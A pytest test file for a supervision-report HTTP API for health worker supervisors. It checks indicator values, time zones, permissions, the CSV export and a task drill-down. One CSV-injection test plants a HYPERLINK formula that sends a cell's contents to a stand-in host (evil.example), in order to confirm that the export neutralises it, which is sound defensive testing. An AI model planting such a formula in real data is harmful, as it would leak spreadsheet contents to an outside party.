"""Supervision reports over HTTP (kazi.server.supervision_api), on SQLite and PostgreSQL, against the hand-made
history of supervision_history.py: every indicator value below is worked out by hand from it; who is a
health worker; the caller's zone deciding months; scope (404) and permission (403); the CSV; the drill-down."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient
from supervision_history import NOW, load, ms, program, task

from kazi.server.api import create_app
from kazi.service.tasks import TaskService
from kazi.store import Store

URL = "/api/v1/supervision"
MONTHS = ["2026-08", "2026-09", "2026-10", "2026-11"]


@dataclass
class Env:
    client: TestClient
    store: Store
    service: TaskService

    def get(self, who: str, path: str = "/report", **params: Any) -> httpx.Response:
        return self.client.get(URL + path, auth=(who, f"{who}-password"), params=params)

    def ok(self, who: str, path: str = "/report", **params: Any) -> Any:
        resp = self.get(who, path, **params)
        assert resp.status_code == 200, resp.text
        return resp.json()


@pytest.fixture
def env(store: Store, tmp_path: Path) -> Iterator[Env]:
    load(store)
    service = TaskService(store, clock=lambda: NOW)
    try:
        service.load_program(program(tmp_path / "program"))
        with TestClient(create_app(store=store, service=service)) as client:
            yield Env(client, store, service)
    finally:
        service.close()


def values(report: dict[str, Any], user: str, indicator: str) -> dict[str, Any]:
    if user == "team":
        return report["team"]["values"][indicator]  # type: ignore[no-any-return]
    row = next(w for w in report["workers"] if w["user"] == user)
    return row["values"][indicator]  # type: ignore[no-any-return]


def by_month(*numbers: float | None, total: float | None) -> dict[str, float | None]:
    return {**dict(zip(MONTHS, numbers, strict=True)), "total": total}


def test_the_nurses_report_has_the_values_worked_out_by_hand(env: Env) -> None:
    report = env.ok("nurse")  # hc-north, Africa/Blantyre, default range
    assert report["place"] == {"_id": "hc-north", "name": "North"}
    assert [p["key"] for p in report["periods"]] == MONTHS
    assert report["periods"][0] == {"key": "2026-08", "start": "2026-08-01", "end": "2026-08-31", "partial": False}
    assert [p["partial"] for p in report["periods"]] == [False, False, False, True]
    # health workers: enabled, placed under hc-north, holding task documents, not the caller
    assert [(w["user"], w["name"], w["place"]) for w in report["workers"]] == [
        ("lucy", "Lucy Phiri", {"_id": "hc-north", "name": "North"}),
        ("mary", "Mary Banda", {"_id": "hc-north", "name": "North"})]
    assert report["indicators"][0] == {"id": "done", "label": "Tasks completed", "kind": "count",
                                       "format": "number", "higher_is_better": True}
    assert report["indicators"][-1]["kind"] == "rate" and report["indicators"][-1]["format"] == "percent"
    # mary's task 3 was completed at 2026-08-31 23:30 UTC, on 1 September in Blantyre
    assert values(report, "mary", "done") == by_month(2, 1, 0, 0, total=3)
    assert values(report, "mary", "sick_done") == by_month(2, 0, 0, 0, total=2)
    assert values(report, "mary", "welcome_done") == by_month(0, 1, 0, 0, total=1)
    assert values(report, "mary", "made") == by_month(3, 1, 1, 2, total=7)
    assert values(report, "mary", "due") == by_month(2, 2, 0, 0, total=4)
    assert values(report, "mary", "on_time") == by_month(1, 1, 0, 0, total=2)
    assert values(report, "mary", "failed") == by_month(0, 1, 0, 0, total=1)
    assert values(report, "mary", "cancelled") == by_month(0, 0, 0, 1, total=1)
    assert values(report, "mary", "visits") == by_month(1, 1, 1, 0, total=3)
    assert values(report, "mary", "completion") == by_month(1.0, 0.5, None, None, total=0.75)
    assert values(report, "mary", "on_time_rate") == by_month(0.5, 1.0, None, None, total=pytest.approx(2 / 3))
    assert values(report, "lucy", "done") == by_month(0, 0, 2, 0, total=2)
    assert values(report, "lucy", "completion") == by_month(None, None, 1.0, 0.0, total=pytest.approx(2 / 3))
    assert values(report, "lucy", "visits") == by_month(0, 0, 0, 1, total=1)  # s5 deleted, n1 a note
    # the team: sums, and rates of the sums
    assert values(report, "team", "done") == by_month(2, 1, 2, 0, total=5)
    assert values(report, "team", "due") == by_month(2, 2, 2, 1, total=7)
    assert values(report, "team", "completion") == by_month(1.0, 0.5, 1.0, 0.0, total=pytest.approx(5 / 7))


def test_the_comparison_ranks_workers_with_median_and_quartiles(env: Env) -> None:
    comparison = env.ok("nurse")["comparison"]
    completion = comparison["completion"]
    mary, lucy = 0.75, 2 / 3
    assert [(r["user"], r["rank"]) for r in completion["ranking"]] == [("mary", 1), ("lucy", 2)]
    assert completion["median"] == pytest.approx((mary + lucy) / 2)
    assert completion["q1"] == pytest.approx(lucy + 0.25 * (mary - lucy))
    assert completion["q3"] == pytest.approx(lucy + 0.75 * (mary - lucy))
    # fewer failures is better; a tie shares the rank
    assert [(r["user"], r["value"], r["rank"]) for r in comparison["failed"]["ranking"]] == [
        ("lucy", 1.0, 1), ("mary", 1.0, 1)]
    assert [(r["user"], r["rank"]) for r in comparison["done"]["ranking"]] == [("mary", 1), ("lucy", 2)]


def test_months_follow_the_callers_zone(env: Env) -> None:
    # the officer (d1, UTC) counts mary's task 3 and report s2 in August, and sees john of hc-south
    report = env.ok("officer")
    assert [w["user"] for w in report["workers"]] == ["john", "lucy", "mary"]  # the nurse holds no task
    assert values(report, "mary", "done") == by_month(3, 0, 0, 0, total=3)
    assert values(report, "mary", "visits") == by_month(2, 0, 1, 0, total=3)
    assert values(report, "john", "done") == by_month(0, 0, 1, 0, total=1)


def test_a_chosen_range_and_place(env: Env) -> None:
    report = env.ok("officer", place="hc-north", start="2026-06", end="2026-07")
    assert [p["key"] for p in report["periods"]] == ["2026-06", "2026-07"]
    assert [w["user"] for w in report["workers"]] == ["lucy", "mary"]
    assert values(report, "mary", "done") == {"2026-06": 1, "2026-07": 0, "total": 1}
    assert values(report, "mary", "visits") == {"2026-06": 0, "2026-07": 1, "total": 1}
    assert values(report, "lucy", "completion") == {"2026-06": None, "2026-07": None, "total": None}
    # nulls rank last
    assert env.ok("officer", place="hc-north", start="2026-06", end="2026-07")["comparison"]["completion"] == {
        "median": 1.0, "q1": 1.0, "q3": 1.0,
        "ranking": [{"user": "mary", "value": 1.0, "rank": 1}, {"user": "lucy", "value": None, "rank": 2}]}
    # only a start: up to the current month
    assert [p["key"] for p in env.ok("nurse", start="2026-10")["periods"]] == ["2026-10", "2026-11"]


def test_bad_ranges_are_422(env: Env) -> None:
    for params, field in (({"start": "2026-13"}, "query.start"), ({"end": "nov"}, "query.end"),
                          ({"start": "2026-10", "end": "2026-09"}, "query.start"),
                          ({"start": "2024-01", "end": "2026-01"}, "query.start")):
        resp = env.get("nurse", **params)
        assert resp.status_code == 422, resp.text
        assert resp.json()["error"]["field"] == field


def test_months_outside_the_calendar_are_422_not_500(env: Env) -> None:
    """0001-01 made the month's local midnight underflow the calendar (a 500)."""
    for path in ("/report", "/report.csv", "/workers/mary/tasks"):
        for params, field in (({"start": "0001-01", "end": "0001-02"}, "query.start"),
                              ({"start": "9999-12", "end": "9999-12"}, "query.start"),
                              ({"end": "0001-01"}, "query.end"), ({"start": "1999-12"}, "query.start"),
                              ({"start": "2099-12", "end": "2100-01"}, "query.end")):
            resp = env.get("nurse", path, **params)
            assert resp.status_code == 422, (path, params, resp.text)
            assert resp.json()["error"]["field"] == field, (path, params, resp.text)


def test_scope_and_permission(env: Env) -> None:
    # another facility, or a place that does not exist: the same 404
    for place in ("hc-south", "nowhere"):
        assert env.get("nurse", place=place).status_code == 404
        assert env.get("nurse", "/report.csv", place=place).status_code == 404
    assert env.get("nurse", "/workers/john/tasks").status_code == 404  # john is at hc-south
    assert env.get("nurse", "/workers/nobody/tasks").status_code == 404
    assert env.get("nurse", "/workers/admin/tasks").status_code == 404  # no place
    # CHWs do not hold can_view_supervisor_reports
    resp = env.get("mary")
    assert resp.status_code == 403 and "can_view_supervisor_reports" in resp.json()["error"]["message"]
    assert env.get("mary", "/workers/lucy/tasks").status_code == 403
    assert env.get("mary", "/report.csv").status_code == 403
    assert env.client.get(URL + "/report").status_code == 401
    # an administrator has no place: they name one
    assert env.get("admin").status_code == 422
    assert [w["user"] for w in env.ok("admin", place="hc-south")["workers"]] == ["john"]


def test_csv_holds_the_reports_values(env: Env) -> None:
    resp = env.get("nurse", "/report.csv")
    assert resp.status_code == 200
    assert resp.headers["content-type"].startswith("text/csv")
    assert resp.headers["content-disposition"] == 'attachment; filename="supervision-hc-north-2026-08-2026-11.csv"'
    rows = list(csv.reader(io.StringIO(resp.text)))
    assert rows[0] == ["place_id", "worker", "worker_name", "indicator", "period", "value"]
    indicators = 11
    assert len(rows) - 1 == (2 + 1) * indicators * (len(MONTHS) + 1)  # two workers and the team
    assert ["hc-north", "mary", "Mary Banda", "done", "2026-09", "1"] in rows
    assert ["hc-north", "mary", "Mary Banda", "completion", "total", "0.75"] in rows
    assert ["hc-north", "mary", "Mary Banda", "completion", "2026-10", ""] in rows  # no denominator
    assert ["hc-north", "team", "team", "done", "total", "5"] in rows
    assert ["hc-north", "lucy", "Lucy Phiri", "completion", "total", "0.666667"] in rows
    json_report = env.ok("nurse")
    keys = [*MONTHS, "total"]
    assert {(r[1], r[3], r[4]) for r in rows[1:]} == {
        (w, i["id"], k) for w in ["lucy", "mary", "team"] for i in json_report["indicators"] for k in keys}


def test_csv_cells_never_start_a_formula(env: Env) -> None:
    """A contact's name is a CHW's text: in the supervisor's spreadsheet it must stay text (CSV injection)."""
    mary = env.store.get_doc("c-mary")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    env.store.write_doc({**mary, "name": formula})
    rows = list(csv.reader(io.StringIO(env.get("nurse", "/report.csv").text)))
    names = {r[2] for r in rows[1:] if r[1] == "mary"}
    assert names == {"'" + formula}
    assert ["hc-north", "mary", "'" + formula, "done", "2026-09", "1"] in rows  # numbers stay numbers
    assert not [cell for r in rows for cell in r if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert next(w for w in env.ok("nurse")["workers"] if w["user"] == "mary")["name"] == formula  # JSON as is


def test_a_workers_404_says_nothing_of_their_place(env: Env) -> None:
    """"Not yours", "no such user" and "no place" read alike: the 404 names only what the caller sent."""
    answers = {name: env.get("nurse", f"/workers/{name}/tasks") for name in ("john", "nobody", "admin")}
    for name, resp in answers.items():
        assert resp.status_code == 404, resp.text
        assert resp.json()["error"]["message"] == f"no health worker {name!r} in your place"
        assert "hc-south" not in resp.text and "c-john" not in resp.text


def test_the_drill_down_lists_overdue_and_failed_tasks(env: Env) -> None:
    items = env.ok("nurse", "/workers/mary/tasks")
    assert [(t["emission_id"], t["state"], t["due_date"]) for t in items] == [
        ("report-mary-5~followup~sick.followup", "Ready", "2026-10-05"),
        ("report-mary-4~followup~sick.followup", "Failed", "2026-09-12")]
    first = items[0]
    assert first["name"] == "sick.followup" and first["title"] == "task.sick_followup"
    assert first["contact"] == {"_id": "c-mary", "name": "Mary Banda"}
    assert first["state_history"] == [{"state": "Ready", "timestamp": ms("2026-10-01T12:00")}]
    assert first["_id"].startswith("task~org.couchdb.user:mary~report-mary-5")
    assert [t["state"] for t in env.ok("nurse", "/workers/mary/tasks", state="overdue")] == ["Ready"]
    assert [t["state"] for t in env.ok("nurse", "/workers/mary/tasks", state="failed")] == ["Failed"]
    # failed within a range of months
    assert env.ok("nurse", "/workers/mary/tasks", state="failed", start="2026-10", end="2026-11") == []
    assert [t["due_date"] for t in env.ok("nurse", "/workers/lucy/tasks", state="failed", start="2026-11")] == \
        ["2026-11-02"]
    assert env.get("nurse", "/workers/mary/tasks", state="late").status_code == 422


def test_routes_are_in_the_openapi_document(env: Env) -> None:
    paths = env.client.get("/openapi.json").json()["paths"]
    for path in ("/report", "/report.csv", "/workers/{username}/tasks"):
        assert URL + path in paths


def test_supervisors_placed_under_the_place_are_not_compared_with_its_workers(env: Env) -> None:
    """The nurse supervises hc-north and gets tasks of her own (a verification, say): the officer's district
    report still compares the CHWs only (without the rule she would be listed: she has tasks under d1)."""
    env.store.write_task_docs([task("nurse", 90, "sick.followup", "Completed", "2026-10-02T08:00", "2026-10-03T09:00",
                                    due="2026-10-03", end="2026-10-05")])
    workers = [w["user"] for w in env.ok("officer", place="d1")["workers"]]
    assert "nurse" not in workers and {"mary", "lucy", "john"} <= set(workers)
